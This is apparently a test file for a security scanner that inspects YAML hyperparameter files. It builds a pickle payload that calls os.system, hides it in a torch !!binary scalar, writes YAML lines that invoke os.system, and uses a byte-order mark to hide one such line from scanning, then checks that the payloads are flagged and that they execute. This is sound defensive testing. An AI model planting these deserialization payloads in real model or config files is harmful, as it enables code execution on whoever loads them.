class _Payload:
    def __init__(self, marker: Path) -> None:
        self.marker = marker

    def __reduce__(self) -> tuple[object, tuple[str]]:
        import os

        return os.system, (f"touch {self.marker}",)


def _tensor_yaml() -> str:
    import torch
    import yaml

    return str(yaml.dump({"pos_weight": torch.tensor([1.0, 2.0])}))


def _with_binary(text: str, payload: bytes) -> str:
    """`text` with the bytes of its one `!!binary` scalar replaced by `payload`."""
    import base64

    head, rest = text.split("!!binary |\n", 1)
    lines = rest.split("\n")
    indent = lines[0][: len(lines[0]) - len(lines[0].lstrip())]
    body = [line for line in lines if line.startswith(indent) and line.strip()]
    tail = "\n".join(lines[len(body):])
    encoded = base64.encodebytes(payload).decode().strip().split("\n")
    return head + "!!binary |\n" + "\n".join(indent + line for line in encoded) + "\n" + tail


def test_a_tensor_yaml_dump_writes_is_read_through_its_bytes(tmp_path: Path) -> None:
    import torch
    import yaml

    text = _tensor_yaml()
    assert "torch.storage._load_from_bytes" in text and "!!binary" in text
    assert torch.equal(yaml.unsafe_load(text)["pos_weight"], torch.tensor([1.0, 2.0]))  # what the loader builds
    report = scan_bytes(tmp_path, text.encode(), "hparams.yaml")
    assert rule_ids(report) == set(), [f.message for f in report.findings]
    assert "pickle" in report.files[0].formats  # the bytes were read, not passed unread


def test_the_bytes_a_yaml_hands_torch_load_are_judged_by_what_they_hold(tmp_path: Path) -> None:
    marker = tmp_path / "ran"
    text = _with_binary(_tensor_yaml(), pickle.dumps(_Payload(marker), protocol=2))
    report = scan_bytes(tmp_path, text.encode(), "hparams.yaml")
    assert "WS-PKL-001" in rule_ids(report), [f.message for f in report.findings]
    assert any("os.system" in f.message or "posix.system" in f.message for f in report.findings)
    # The loader runs it: yaml.unsafe_load in a child process calls _load_from_bytes, whose torch.load runs the pickle.
    subprocess.run([sys.executable, "-c", "import sys, yaml; yaml.unsafe_load(open(sys.argv[1]).read())",
                    str(tmp_path / "hparams.yaml")], capture_output=True, timeout=120, check=False)
    assert marker.exists()


@pytest.mark.parametrize(
    "arguments",
    [
        "[!!binary 'gAJOLg==', 1]",  # more than the bytes
        "['gAJOLg==']",  # text, not bytes
        "[!!python/object/apply:builtins.bytes [[128, 2, 78, 46]]]",  # bytes made by another call
        "{args: [!!binary 'gAJOLg==']}",  # the mapping form
        "[[!!binary 'gAJOLg==']]",  # nested
    ],
)
def test_any_other_use_of_load_from_bytes_in_yaml_is_judged_as_the_call(tmp_path: Path, arguments: str) -> None:
    text = f"w: !!python/object/apply:torch.storage._load_from_bytes {arguments}\n"
    report = scan_bytes(tmp_path, text.encode(), "hparams.yaml")
    assert "WS-CFG-001" in rule_ids(report), [f.message for f in report.findings]


def test_an_aliased_binary_is_judged_as_the_call(tmp_path: Path) -> None:
    text = "b: &b !!binary 'gAJOLg=='\nw: !!python/object/apply:torch.storage._load_from_bytes [*b]\n"
    assert "WS-CFG-001" in rule_ids(scan_bytes(tmp_path, text.encode(), "hparams.yaml"))


# Review 62: libyaml skips U+FEFF at the start of any line; PyYAML's own parser, which every loader that acts on YAML
# uses, reads it as text there. A line starting `\ufeff#` was a comment to the scan and a key to the loader.
@pytest.mark.parametrize(
    "line",
    [
        "\ufeff#: !!python/object/apply:os.system ['touch {marker}']",
        "\ufeff#: {{_target_: os.system, command: 'touch {marker}'}}",
    ],
    ids=["python-tag", "hydra-target"],
)
def test_a_byte_order_mark_inside_the_text_hides_nothing(tmp_path: Path, line: str) -> None:
    marker = tmp_path / "ran"
    text = "lr: 0.1\n" + line.format(marker=marker) + "\n"
    report = scan_bytes(tmp_path, text.encode(), "hparams.yaml")
    assert "WS-CFG-001" in rule_ids(report), [f.message for f in report.findings]
    if "python/object" in line:  # the loader runs it
        subprocess.run([sys.executable, "-c", "import sys, yaml; yaml.unsafe_load(open(sys.argv[1]).read())",
                        str(tmp_path / "hparams.yaml")], capture_output=True, timeout=60, check=False)
        assert marker.exists()


def test_large_yaml_with_a_byte_order_mark_is_read_by_the_loaders_parser() -> None:
    import yaml

    from wscan.scanners.yaml_parsers import PURE_PARSER_BYTES, yaml_loaders

    large = "a: 1\n" * (PURE_PARSER_BYTES // 5 + 1)
    assert yaml_loaders("a: 1\n") == [yaml.SafeLoader]
    assert yaml_loaders(large)[-1] is yaml.SafeLoader
    assert yaml_loaders(large + "\ufeff#: 1\n") == [yaml.SafeLoader]
    assert yaml_loaders("\ufeff" + large)[0] is not yaml.SafeLoader or not hasattr(yaml, "CSafeLoader")
